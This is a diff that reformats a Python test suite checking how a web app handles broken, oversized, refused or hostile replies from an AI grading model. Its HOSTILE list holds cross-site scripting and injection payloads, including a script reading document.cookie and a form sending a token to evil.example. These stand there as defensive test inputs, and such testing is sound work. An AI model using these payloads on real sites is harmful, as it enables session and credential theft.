@@ -43,26 +43,43 @@ def changed(size=12, **members):
 
 def landed(**members):
     """A good mark whose only anchor is as given."""
-    return lambda request: well(request, answer={**answer_for(request), "anchors": [{"name": "First step", "anchor": "Names one.", "landed": False, "quote": "", **members}]})
+    return lambda request: well(
+        request, answer={**answer_for(request), "anchors": [{"name": "First step", "anchor": "Names one.", "landed": False, "quote": "", **members}]}
+    )
 
 
 # --- 8: not JSON ------------------------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("reply, repaired", [
-    (saying("The secret sauce is a seven."), True),
-    (saying('{"score": 7, "positive_feedback": ["The secret sauce'), True),
-    (saying('{"score": 7}{"secret": "sauce"}'), True),
-    (saying("[]"), True),
-    (saying("null"), True),
-    (Reply(body="", content_type="text/event-stream"), False),
-    (Reply(body=""), False),
-    (Reply(body="<html><h1>secret sauce</h1></html>", content_type="text/html"), False),
-    (Reply(body="{not json at all, secret sauce"), False),
-    (Reply(body="data: secret sauce\n\n", content_type="text/event-stream"), False),
-    (lambda request: openai_stream("", usage=None), False),
-], ids=["prose", "half a document", "two documents", "a list", "null", "an empty stream", "an empty body", "html", "broken json", "a stream of something",
-        "no word"])
+@pytest.mark.parametrize(
+    "reply, repaired",
+    [
+        (saying("The secret sauce is a seven."), True),
+        (saying('{"score": 7, "positive_feedback": ["The secret sauce'), True),
+        (saying('{"score": 7}{"secret": "sauce"}'), True),
+        (saying("[]"), True),
+        (saying("null"), True),
+        (Reply(body="", content_type="text/event-stream"), False),
+        (Reply(body=""), False),
+        (Reply(body="<html><h1>secret sauce</h1></html>", content_type="text/html"), False),
+        (Reply(body="{not json at all, secret sauce"), False),
+        (Reply(body="data: secret sauce\n\n", content_type="text/event-stream"), False),
+        (lambda request: openai_stream("", usage=None), False),
+    ],
+    ids=[
+        "prose",
+        "half a document",
+        "two documents",
+        "a list",
+        "null",
+        "an empty stream",
+        "an empty body",
+        "html",
+        "broken json",
+        "a stream of something",
+        "no word",
+    ],
+)
 def test_what_is_not_json_gets_one_more_chance(asked, models, reply, repaired):
     models.always(reply)
     asked.send()
@@ -83,32 +100,36 @@ def test_the_second_chance_is_taken(asked, models):
 # --- 9: not in the contract ---------------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("reply, where", [
-    (changed(score=1e9), "/score"),
-    (changed(score=0), "/score"),
-    (changed(score=11), "/score"),
-    (changed(score=7.5), "/score"),
-    (changed(score="10"), "/score"),
-    (changed(score=None), "/score"),
-    (changed(score=[10]), "/score"),
-    (changed(score=2**63), "JSON"),
-    (lambda request: well(request, text=json.dumps({**answer_for(request), "score": float("nan")})), "JSON"),
-    (lambda request: well(request, text=json.dumps({**answer_for(request), "score": float("inf")})), "JSON"),
-    (lambda request: well(request, text=json.dumps(answer_for(request)).replace('"score": 7', '"score": 1e400')), ""),
-    (changed(user_id="00000000-0000-4000-8000-000000000000"), "user_id"),
-    (changed(state="approved"), "state"),
-    (changed(positive_feedback="a word"), "/positive_feedback"),
-    (changed(positive_feedback=["a"] * 4), "/positive_feedback"),
-    (changed(positive_feedback=[" ".join(["word"] * 31)]), "/positive_feedback/0"),
-    (changed(improvement_areas=["x" * 500_000], size=2000), "/improvement_areas/0"),
-    (changed(anchors={"name": "x"}), "/anchors"),
-    (landed(landed=True, quote="words that nobody said"), "letter for letter"),
-    (landed(landed=True, quote=""), "quotation"),
-    (landed(landed=False, quote="First I would"), "quotation"),
-    (lambda request: well(request, text="[" * 10_000 + "]" * 10_000), "JSON"),
-    (lambda request: well(request, text='{"score":' * 10_000 + "7" + "}" * 10_000, **({"size": 2000} if request.stream else {})), "JSON"),
-    (lambda request: well(request, text=json.dumps(answer_for(request))[:-1] + ', "deep": ' + "[" * 10_000 + "]" * 10_000 + "}"), "JSON"),
-], ids=lambda v: v if isinstance(v, str) else None)
+@pytest.mark.parametrize(
+    "reply, where",
+    [
+        (changed(score=1e9), "/score"),
+        (changed(score=0), "/score"),
+        (changed(score=11), "/score"),
+        (changed(score=7.5), "/score"),
+        (changed(score="10"), "/score"),
+        (changed(score=None), "/score"),
+        (changed(score=[10]), "/score"),
+        (changed(score=2**63), "JSON"),
+        (lambda request: well(request, text=json.dumps({**answer_for(request), "score": float("nan")})), "JSON"),
+        (lambda request: well(request, text=json.dumps({**answer_for(request), "score": float("inf")})), "JSON"),
+        (lambda request: well(request, text=json.dumps(answer_for(request)).replace('"score": 7', '"score": 1e400')), ""),
+        (changed(user_id="00000000-0000-4000-8000-000000000000"), "user_id"),
+        (changed(state="approved"), "state"),
+        (changed(positive_feedback="a word"), "/positive_feedback"),
+        (changed(positive_feedback=["a"] * 4), "/positive_feedback"),
+        (changed(positive_feedback=[" ".join(["word"] * 31)]), "/positive_feedback/0"),
+        (changed(improvement_areas=["x" * 500_000], size=2000), "/improvement_areas/0"),
+        (changed(anchors={"name": "x"}), "/anchors"),
+        (landed(landed=True, quote="words that nobody said"), "letter for letter"),
+        (landed(landed=True, quote=""), "quotation"),
+        (landed(landed=False, quote="First I would"), "quotation"),
+        (lambda request: well(request, text="[" * 10_000 + "]" * 10_000), "JSON"),
+        (lambda request: well(request, text='{"score":' * 10_000 + "7" + "}" * 10_000, **({"size": 2000} if request.stream else {})), "JSON"),
+        (lambda request: well(request, text=json.dumps(answer_for(request))[:-1] + ', "deep": ' + "[" * 10_000 + "]" * 10_000 + "}"), "JSON"),
+    ],
+    ids=lambda v: v if isinstance(v, str) else None,
+)
 def test_what_is_not_in_the_contract_is_never_a_mark(asked, models, reply, where):
     models.always(reply)
     asked.send()
@@ -128,22 +149,39 @@ def test_a_protocol_ten_thousand_deep_is_no_answer(asked, models):
 # --- 10: broken off -------------------------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("reply, tries, outcome", [
-    (lambda request: well(request, stop_after=8), 1, "cut"),
-    (lambda request: well(request, stop_after=8, cut=True), 1, "cut"),
-    (lambda request: well(request, stop_after=8, then=['data: {"choices":[{"index":0,"del'], cut=True), 1, "cut"),
-    (lambda request: well(request, stop_after=8, then=[{"error": {"message": "secret sauce", "type": "server_error"}}]), 1, "server"),
-    (lambda request: well(request, stop_after=8, then=[{"error": {"message": "secret sauce", "type": "overloaded_error"}}]), 1, "overloaded"),
-    (lambda request: well(request, stop_after=8, then=['{"error":"secret sauce"}\n']), 1, None),
-    (lambda request: well(request, stop_after=0, then=[{"error": {"message": "secret sauce", "type": "server_error"}}]), 3, "server"),
-    (lambda request: openai_stream(json.dumps(answer_for(request))[:150], finish="length"), 1, "truncated"),
-    (lambda request: openai_whole(json.dumps(answer_for(request))[:150], finish="length"), 1, "truncated"),
-    (lambda request: openai_stream(json.dumps(answer_for(request)), finish="length"), 1, "truncated"),
-    (lambda request: openai_stream(json.dumps(answer_for(request)), finish="content_filter"), 1, "filtered"),
-    (lambda request: openai_whole("", refusal="I can't help with that secret sauce."), 1, "refused"),
-    (lambda request: openai_stream(json.dumps(answer_for(request)), finish="something_new"), None, None),
-], ids=["no end", "a cut", "mid-event", "an error inside", "overloaded inside", "a bare line of error", "an error before a word", "length", "length, whole",
-        "length and all there", "filtered", "refused", "a stop nobody knows"])
+@pytest.mark.parametrize(
+    "reply, tries, outcome",
+    [
+        (lambda request: well(request, stop_after=8), 1, "cut"),
+        (lambda request: well(request, stop_after=8, cut=True), 1, "cut"),
+        (lambda request: well(request, stop_after=8, then=['data: {"choices":[{"index":0,"del'], cut=True), 1, "cut"),
+        (lambda request: well(request, stop_after=8, then=[{"error": {"message": "secret sauce", "type": "server_error"}}]), 1, "server"),
+        (lambda request: well(request, stop_after=8, then=[{"error": {"message": "secret sauce", "type": "overloaded_error"}}]), 1, "overloaded"),
+        (lambda request: well(request, stop_after=8, then=['{"error":"secret sauce"}\n']), 1, None),
+        (lambda request: well(request, stop_after=0, then=[{"error": {"message": "secret sauce", "type": "server_error"}}]), 3, "server"),
+        (lambda request: openai_stream(json.dumps(answer_for(request))[:150], finish="length"), 1, "truncated"),
+        (lambda request: openai_whole(json.dumps(answer_for(request))[:150], finish="length"), 1, "truncated"),
+        (lambda request: openai_stream(json.dumps(answer_for(request)), finish="length"), 1, "truncated"),
+        (lambda request: openai_stream(json.dumps(answer_for(request)), finish="content_filter"), 1, "filtered"),
+        (lambda request: openai_whole("", refusal="I can't help with that secret sauce."), 1, "refused"),
+        (lambda request: openai_stream(json.dumps(answer_for(request)), finish="something_new"), None, None),
+    ],
+    ids=[
+        "no end",
+        "a cut",
+        "mid-event",
+        "an error inside",
+        "overloaded inside",
+        "a bare line of error",
+        "an error before a word",
+        "length",
+        "length, whole",
+        "length and all there",
+        "filtered",
+        "refused",
+        "a stop nobody knows",
+    ],
+)
 def test_what_breaks_off_is_no_mark(asked, models, reply, tries, outcome):
     models.always(reply)
     asked.send()
@@ -169,20 +207,25 @@ def test_words_that_were_shown_and_did_not_hold_are_taken_back_in_sight(asked, m
 def a_gigabyte(before, each, content_type):
     def reply(_):
         return Reply(pieces=(p for i in range(16 * 1024 + 1) for p in [each if i else before]), content_type=content_type)
+
     return reply
 
 
 SPACES = b" " * 65536
 
 
-@pytest.mark.parametrize("reply", [
-    a_gigabyte(b'{"choices":[', SPACES, "application/json"),
-    a_gigabyte(b"data: ", SPACES, "text/event-stream"),
-    a_gigabyte(b": ", SPACES, "text/event-stream"),
-    a_gigabyte(b"\n", b'data: {"choices":[{"index":0,"delta":{"content":"' + b"x" * 1000 + b'"}}]}\n\n', "text/event-stream"),
-    a_gigabyte(b"\n", b": a comment that keeps the line alive\n\n" * 1000, "text/event-stream"),
-    a_gigabyte(b"<html>", SPACES, "text/html"),
-], ids=["a document", "one line", "one comment", "many words", "many comments", "html"])
+@pytest.mark.parametrize(
+    "reply",
+    [
+        a_gigabyte(b'{"choices":[', SPACES, "application/json"),
+        a_gigabyte(b"data: ", SPACES, "text/event-stream"),
+        a_gigabyte(b": ", SPACES, "text/event-stream"),
+        a_gigabyte(b"\n", b'data: {"choices":[{"index":0,"delta":{"content":"' + b"x" * 1000 + b'"}}]}\n\n', "text/event-stream"),
+        a_gigabyte(b"\n", b": a comment that keeps the line alive\n\n" * 1000, "text/event-stream"),
+        a_gigabyte(b"<html>", SPACES, "text/html"),
+    ],
+    ids=["a document", "one line", "one comment", "many words", "many comments", "html"],
+)
 def test_a_gigabyte_is_cut_off_and_memory_stays_flat(site, asked, models, reply):
     before = site.memory()
     models.always(reply)
@@ -230,15 +273,29 @@ def test_a_short_length_and_a_long_one(asked, models):
 
 
 HOSTILE = [
-    '<img src="http://evil.example/x.png" onerror=alert(1)>', "<script>alert(document.cookie)</script>", "</p></section><form action=//evil.example><input name=token>",
-    "[click](http://evil.example/) ![x](http://evil.example/x.png)", "{{token}} {{%AUTOESCAPE}} {{#positive_feedback}}", "%n%s%x ${7*7} <%= 7*7 %>", "&lt;b&gt; &amp;amp;",
-    "\u202eevil\u202c \u2066x\u2069", "<!-- --> ]]> <![CDATA[x]]>", "javascript:alert(1) data:text/html,x",
+    '<img src="http://evil.example/x.png" onerror=alert(1)>',
+    "<script>alert(document.cookie)</script>",
+    "</p></section><form action=//evil.example><input name=token>",
+    "[click](http://evil.example/) ![x](http://evil.example/x.png)",
+    "{{token}} {{%AUTOESCAPE}} {{#positive_feedback}}",
+    "%n%s%x ${7*7} <%= 7*7 %>",
+    "&lt;b&gt; &amp;amp;",
+    "\u202eevil\u202c \u2066x\u2069",
+    "<!-- --> ]]> <![CDATA[x]]>",
+    "javascript:alert(1) data:text/html,x",
 ]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_html_in_a_models_words_is_words(asked, models, text):
-    models.always(changed(positive_feedback=["said the model: " + text], improvement_areas=[text], anchors=[{"name": "<b>A</b>", "anchor": text, "landed": False, "quote": ""}], confidence=text))
+    models.always(
+        changed(
+            positive_feedback=["said the model: " + text],
+            improvement_areas=[text],
+            anchors=[{"name": "<b>A</b>", "anchor": text, "landed": False, "quote": ""}],
+            confidence=text,
+        )
+    )
     live = asked.send()
     asked.assert_marked()
     asked.browser.get(f"/attempt/{asked.attempt}")
@@ -250,14 +307,20 @@ def test_html_in_a_models_words_is_words(asked, models, text):
     assert " ".join(shown.split()) in "".join(c for c in asked.browser.page.text if c not in "\u202e\u202c\u2066\u2069")
 
 
-@pytest.mark.parametrize("bad", [b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80"], ids=["bytes", "overlong", "half a pair", "five bytes", "a tail"])
+@pytest.mark.parametrize(
+    "bad",
+    [b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80"],
+    ids=["bytes", "overlong", "half a pair", "five bytes", "a tail"],
+)
 @pytest.mark.parametrize("whole", [True, False], ids=["whole", "streamed"])
 def test_bytes_that_are_no_text_are_refused(asked, models, bad, whole):
     def reply(request):
         one = (openai_whole if whole else openai_stream)(json.dumps(answer_for(request)))
         if whole:
             return Reply(body=one.body.replace(b"A clear", b"A " + bad + b" clear"))
-        return Reply(pieces=[p.replace(b"score", b"sc" + bad + b"ore") if isinstance(p, bytes) else p for p in one.pieces], content_type="text/event-stream")
+        return Reply(
+            pieces=[p.replace(b"score", b"sc" + bad + b"ore") if isinstance(p, bytes) else p for p in one.pieces], content_type="text/event-stream"
+        )
 
     models.always(reply)
     page = asked.send()
@@ -266,8 +329,11 @@ def test_bytes_that_are_no_text_are_refused(asked, models, bad, whole):
     asked.assert_next_works(models)
 
 
-@pytest.mark.parametrize("sign", ["\u0000", "\u0001", "\u0007", "\u001b[31m\u001b]0;title\u0007", "\u007f", "\u0085", "\ud800", "\ufeff", "\u2028"],
-                         ids=["NUL", "SOH", "BEL", "ANSI", "DEL", "NEL", "half a pair", "a byte order mark", "a line separator"])
+@pytest.mark.parametrize(
+    "sign",
+    ["\u0000", "\u0001", "\u0007", "\u001b[31m\u001b]0;title\u0007", "\u007f", "\u0085", "\ud800", "\ufeff", "\u2028"],
+    ids=["NUL", "SOH", "BEL", "ANSI", "DEL", "NEL", "half a pair", "a byte order mark", "a line separator"],
+)
 def test_signs_that_steer_a_screen_never_reach_one(asked, models, sign):
     models.play(lambda request: well(request, text=json.dumps({**answer_for(request), "positive_feedback": ["said the model " + sign + " so."]})))
     page = asked.send()
